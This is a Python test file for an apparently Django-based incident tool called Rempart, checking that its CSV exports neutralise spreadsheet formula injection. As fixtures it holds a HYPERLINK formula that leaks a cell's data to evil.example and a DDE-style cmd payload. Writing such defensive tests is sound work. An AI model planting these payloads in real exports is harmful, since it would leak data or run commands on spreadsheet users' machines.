"""Hostile names in every CSV Rempart writes (scope export, notices' lists): no cell runs as a formula."""

from __future__ import annotations

import csv
import io

from django.core.management import call_command
from django.utils import timezone

from rempart.gate import Actor
from rempart.incidents import workflow
from rempart.incidents.models import Document
from rempart.incidents.notices import generate_notices
from rempart.incidents.scope import ScopeCriteria
from rempart.lib.csv_safe import FORMULA_LEADS
from rempart.registry.models import Contract

from .conftest import COL, actor_for, check, since

EVIL_NAME = '=HYPERLINK("https://evil.example/?leak="&A2;"Cliquez ici")'


def _formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: formula-leading and not a plain number."""
    return [
        cell
        for row in rows
        for cell in row
        if cell[:1] in FORMULA_LEADS and not cell.lstrip("+-").replace(",", "").replace(".", "").isdigit()
    ]


def _read(path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


def test_scope_out_neutralises_a_hostile_organisation_name(cast, population, tmp_path):
    organisation = cast.staff.membership.organisation
    organisation.name = EVIL_NAME
    organisation.save()
    first = population.insurers[0]
    for row in population.people[first.pk][:3]:
        check(actor_for(cast.staff), row)
    out = tmp_path / "scope"
    call_command("scope", "--account", cast.staff.email, "--since", "2020-01-01", "--out", str(out))
    header, *rows = _read(out / f"personnes-{first.amc_number}.csv")
    actors = rows[0][header.index("acteurs")]
    assert actors.startswith("'" + EVIL_NAME)  # shown as written, not run
    assert len(rows) == 3 and not _formula_cells([header, *rows])


def test_notices_lists_neutralise_hostile_cells(cast, population):
    first = population.insurers[0]
    rows = population.people[first.pk][:2]
    for row in rows:
        check(actor_for(cast.staff), row)
    # The import never lets such an adherent number in; the lists must hold even if the registry did.
    hostile = "@SUM(1+1)*cmd|'!A0"  # within the column's 20 characters
    Contract.objects.filter(insurer=first, adherent_number=rows[0][COL["adherent_number"]]).update(
        adherent_number=hostile
    )
    incident = workflow.open_incident(
        title="Compte détourné", description="essai", detected_at=timezone.now(), by=cast.analyst
    )
    scope = workflow.attach_scope(
        incident, ScopeCriteria(user_ids=(cast.staff.pk,), since=since()), label="staff", by=cast.analyst
    )
    analyst = Actor(
        channel="console", organisation_id=cast.operator.pk, user_id=cast.analyst.pk, ip="10.0.0.1"
    )
    documents = generate_notices(incident, scope, by=cast.analyst, actor=analyst)
    lists = [d for d in documents if d.kind in (Document.Kind.AFFECTED_LIST, Document.Kind.LETTER_MERGE)]
    assert len(lists) == 2
    for document in lists:
        with document.file.open("rb") as handle:
            parsed = list(
                csv.reader(io.StringIO(handle.read().decode("utf-8-sig"), newline=""), delimiter=";")
            )
        assert "'" + hostile in {line[0] for line in parsed[1:]}
        assert not _formula_cells(parsed)
